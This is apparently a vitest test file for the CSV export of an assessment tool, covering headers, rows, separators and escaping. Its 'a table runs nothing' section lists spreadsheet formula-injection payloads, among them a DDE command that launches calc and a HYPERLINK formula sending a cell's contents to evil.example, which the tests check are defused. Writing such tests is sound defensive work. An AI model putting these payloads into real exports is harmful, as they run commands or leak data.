import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { planCsv, resultCsv } from '../../../../src/islands/exports/csv';
import { undefused } from '../../../../src/islands/exports/table';
import { FACTORS, LEVELS, QUESTIONS } from '../../../../src/model/grid';
import type { Assessment } from '../../../../src/stores/saved';
import { NOTHING_FOLLOWED } from '../../../../src/stores/saved';
import { anyAssessment, anyText } from '../../stores/arbitraries';
import { ANNA, documentOf, OWN_MOVE, questionWords, SITE_MOVE } from './documents';

/** The cells as a program reads them that knows nothing of this site. */
const cellsIn = (text: string, delimiter = ',') =>
  Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true }).data;

/** The rows below the head, each with the head as its keys. */
function rowsIn(text: string, delimiter = ','): Record<string, string>[] {
  const [head = [], ...rows] = cellsIn(text, delimiter);
  return rows.map((row) => Object.fromEntries(head.map((name, column) => [name, row[column]!])));
}

const english = () => resultCsv(documentOf());
const dutch = () => resultCsv(documentOf(ANNA, { locale: 'nl' }));

const rowOf = (rows: Record<string, string>[], id: string) =>
  rows.find((row) => row['Question id'] === id || row['Vraag-id'] === id)!;

describe('a result as a table', () => {
  test('has one row for each of the twenty questions, in their order', () => {
    expect(rowsIn(english()).map((row) => row['Question id'])).toEqual(QUESTIONS);
    expect(rowsIn(dutch(), ';').map((row) => row['Vraag-id'])).toEqual(QUESTIONS);
  });

  test('has a head in the language of the page', () => {
    expect(cellsIn(english())[0]).toEqual([
      ...['Name', 'Chair', 'Date', 'Result code'],
      ...['Level', 'Success factor', 'Question id', 'Question'],
      ...['Answer', 'Stage', 'Description of the answer'],
      ...['Ambition', 'Gap to the ambition', 'What you can show', 'Why it does not apply'],
      'Move to the next stage',
    ]);
    expect(cellsIn(dutch(), ';')[0]?.slice(0, 6)).toEqual([
      ...['Naam', 'Stoel', 'Datum', 'Resultaatcode', 'Niveau', 'Succesfactor'],
    ]);
  });

  test('says in every row whose result it is', () => {
    for (const row of rowsIn(english())) {
      expect(row).toMatchObject({
        Name: 'Zorg & Zo, région Été',
        Chair: 'Operations, processes or IT',
        Date: '2026-12-01',
        'Result code': 'cx1pgsqqs9wuxcnhgdfyw3d9lsz',
      });
    }
  });

  test('gives an answer in a figure, with its stage, its words and the way to the next', () => {
    const words = questionWords('en')['brand.value'];
    expect(rowOf(rowsIn(english()), 'brand.value')).toMatchObject({
      ...{ Level: 'Brand', 'Success factor': 'Two-sided value', Question: words.ask },
      ...{ Answer: '2', Stage: 'Exploring', 'Description of the answer': words.stages[1] },
      ...{
        Ambition: '3',
        'Gap to the ambition': '1',
        'Move to the next stage': words.moves[1]!.do,
      },
    });
  });

  test('gives an unknown answer as ? and one that does not apply as –', () => {
    const rows = rowsIn(english());
    const nothing = { 'Description of the answer': '', 'Gap to the ambition': '' };
    expect(rowOf(rows, 'management.renewal')).toMatchObject({
      ...{ Answer: '?', Stage: 'I don’t know', 'Move to the next stage': '', ...nothing },
    });
    expect(rowOf(rows, 'brand.paths')).toMatchObject({
      ...{ Answer: '–', Stage: 'does not apply', 'Move to the next stage': '', ...nothing },
      'Why it does not apply': 'We have one channel',
    });
  });

  test('gives an open question as unknown, as the result code does', () => {
    const rows = rowsIn(resultCsv(documentOf({ ...ANNA, answers: {} })));
    expect(new Set(rows.map((row) => row['Answer']))).toEqual(new Set(['?']));
  });

  test('has nothing to move to at the last stage, and no gap below nothing', () => {
    const rows = rowsIn(resultCsv(documentOf({ ...ANNA, answers: { 'brand.value': 5 } })));
    expect(rowOf(rows, 'brand.value')).toMatchObject({
      ...{ Answer: '5', 'Gap to the ambition': '0', 'Move to the next stage': '' },
    });
  });

  test('leaves blank what nobody said', () => {
    const bare: Assessment = {
      ...ANNA,
      ...{ label: '', chair: 'not-said', day: 0, notes: {}, reasons: {} },
      ambition: { management: null, brand: null, operations: null, customer: null },
    };
    for (const row of rowsIn(resultCsv(documentOf(bare)))) {
      expect(row).toMatchObject({
        ...{ Name: '', Chair: '', Date: '', Ambition: '', 'Gap to the ambition': '' },
        ...{ 'What you can show': '', 'Why it does not apply': '' },
      });
    }
  });

  test('keeps the lines of a note in one cell', () => {
    const row = rowOf(rowsIn(english()), 'management.value');
    expect(row['What you can show']).toBe(ANNA.notes['management.value']);
  });

  test('tells nothing of the plan, the results line or the history', () => {
    const without = { ...ANNA, ...NOTHING_FOLLOWED, earlier: null, beside: null };
    expect(resultCsv(documentOf(without))).toBe(english());
  });
});

describe('a table opens in a spreadsheet', () => {
  test.each([
    ['a result in English', english, ','],
    ['a result in Dutch', dutch, ';'],
    ['a plan in English', () => planCsv(documentOf()), ','],
    ['a plan in Dutch', () => planCsv(documentOf(ANNA, { locale: 'nl' })), ';'],
  ])('%s: accents right, rows apart, with the separator expected there', (_, write, separator) => {
    const text = write();
    expect(text.startsWith('\uFEFF"')).toBe(true);
    expect(text.endsWith('"\r\n')).toBe(true);
    expect(text.slice(1)).not.toContain('\uFEFF');
    // Outside of cells there is nothing but separators and ends of lines.
    const between = text.slice(1).replace(/"(?:[^"]|"")*"/g, '');
    expect(between).toMatch(new RegExp(`^(?:${separator}+\r\n)+$`));
  });

  test('also with quotes, separators and lines in it', () => {
    const note = '"a","b";\r\n"c"\t\n"';
    const text = resultCsv(documentOf({ ...ANNA, notes: { 'brand.value': note } }));
    expect(rowOf(rowsIn(text), 'brand.value')['What you can show']).toBe(note);
  });
});

// What a spreadsheet may take for a formula, after what it may overlook.
const EXECUTES = /^[\s\p{C}]*[=+\-@＝＋－＠]|^[\t\r\n]/u;

const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=1+1\nand a second line',
  '=1+1\r\nand a second line',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\ttext',
  '\rtext',
  '\ntext',
  '  =1',
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF=1',
  '\u0000=1',
  '＝1＋1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '-',
  '=',
  '=1;=2',
  '=1","=2',
];

describe('a table runs nothing', () => {
  test.each(ATTACKS.map((attack) => ({ attack, shown: JSON.stringify(attack) })))(
    'in any cell: $shown',
    ({ attack }) => {
      const attacked: Assessment = {
        ...ANNA,
        label: attack,
        notes: { 'brand.value': attack },
        reasons: { 'brand.paths': attack },
        plan: {
          moves: [{ ...OWN_MOVE, text: attack, owner: attack }],
          whyMany: attack,
        },
      };
      for (const locale of ['en', 'nl'] as const) {
        const document = documentOf(attacked, { locale });
        const separator = locale === 'en' ? ',' : ';';
        const cells = [resultCsv(document), planCsv(document)].flatMap((text) =>
          cellsIn(text, separator).flat(),
        );
        expect(cells.filter((cell) => EXECUTES.test(cell))).toEqual([]);
        expect(cells.filter((cell) => cell === `'${attack}`).length).toBeGreaterThan(20);
      }
    },
  );

  test('whatever anybody wrote', () => {
    const beginning = fc.constantFrom(...'=+-@\t\r\n \u00A0\u200B＝＋－＠\'"');
    const text = fc.oneof(
      anyText,
      fc.tuple(beginning, beginning, anyText).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(anyAssessment, text, text, (assessment, label, note) => {
        const attacked = { ...assessment, label, notes: { 'brand.value': note } };
        const cells = cellsIn(resultCsv(documentOf(attacked))).flat();
        expect(cells.filter((cell) => EXECUTES.test(cell))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test('and changes nothing that is no formula', () => {
    const harmless = ['–', '5', 'a=b', "'s ochtends", '’t', '€ 5', '#1', '2026-11-22', '(=1)'];
    for (const text of harmless) {
      const row = rowOf(rowsIn(resultCsv(documentOf({ ...ANNA, label: text }))), 'brand.value');
      expect(row['Name']).toBe(text);
    }
  });
});

describe('a defused cell', () => {
  test.each(ATTACKS.map((attack) => ({ attack, shown: JSON.stringify(attack) })))(
    'is what it was before: $shown',
    ({ attack }) => expect(undefused(`'${attack}`)).toBe(attack),
  );

  test('is told from a text that begins with an apostrophe', () => {
    expect(undefused("'s ochtends")).toBe("'s ochtends");
    expect(undefused("''=1")).toBe("'=1");
    expect(undefused("'")).toBe("'");
    expect(undefused('=1')).toBe('=1');
    // Files of earlier versions defused numbers below zero as well.
    expect(undefused("'-1")).toBe('-1');
  });

  test('comes back from the table as it was, whatever it is', () => {
    const apostrophes = fc.constantFrom('', "'", "''", "'=", "''-", "'\t");
    fc.assert(
      fc.property(apostrophes, anyText, (before, text) => {
        const label = before + text;
        const [, row = []] = cellsIn(resultCsv(documentOf({ ...ANNA, label })));
        expect(undefused(row[0]!)).toBe(label);
      }),
      { numRuns: 300 },
    );
  });
});

describe('a plan as a table', () => {
  const rows = rowsIn(planCsv(documentOf()));

  test('has one row for each move, what is due first before the rest', () => {
    expect(rows.map((row) => row['Due'])).toEqual(['2026-12-07', '2027-01-05']);
  });

  test('says a move of the site in its words, with its place in the grid', () => {
    const { do: move, sign } = questionWords('en')['brand.value'].moves[1]!;
    expect(rows[1]).toEqual({
      ...{ Move: move, Level: 'Brand', 'Success factor': 'Two-sided value' },
      ...{ Owner: SITE_MOVE.owner, Start: '2026-11-23', Due: '2027-01-05', Status: 'Active' },
      'First sign': sign,
    });
  });

  test('says a move of one’s own in one’s own words', () => {
    expect(rows[0]).toEqual({
      ...{ Move: OWN_MOVE.text, Level: '', 'Success factor': '', Owner: '', Start: '' },
      ...{ Due: '2026-12-07', Status: 'Planned', 'First sign': '' },
    });
  });

  test('knows the levels, the factors and the four ways a move can stand in both languages', () => {
    const moves = LEVELS.map((level, index) => ({
      ...{ ...SITE_MOVE, id: `${level}.${FACTORS[index]!}.4` },
      status: (['planned', 'active', 'done', 'stopped'] as const)[index]!,
    }));
    const plan = { ...ANNA, plan: { moves, whyMany: '' } };
    const english = rowsIn(planCsv(documentOf(plan)));
    const dutch = rowsIn(planCsv(documentOf(plan, { locale: 'nl' })), ';');
    expect(english.map((row) => `${row['Level']!}: ${row['Status']!}`)).toEqual([
      ...['Management: Planned', 'Brand: Active', 'Operations: Done', 'Customer: Stopped'],
    ]);
    expect(dutch.map((row) => `${row['Niveau']!}: ${row['Status']!}`)).toEqual([
      ...['Aansturing: Gepland', 'Merk: Loopt', 'Operatie: Klaar', 'Klant: Gestopt'],
    ]);
  });

  test('has only a head where nothing is planned', () => {
    const none = { ...ANNA, plan: { moves: [], whyMany: '' } };
    expect(cellsIn(planCsv(documentOf(none)))).toHaveLength(1);
  });
});
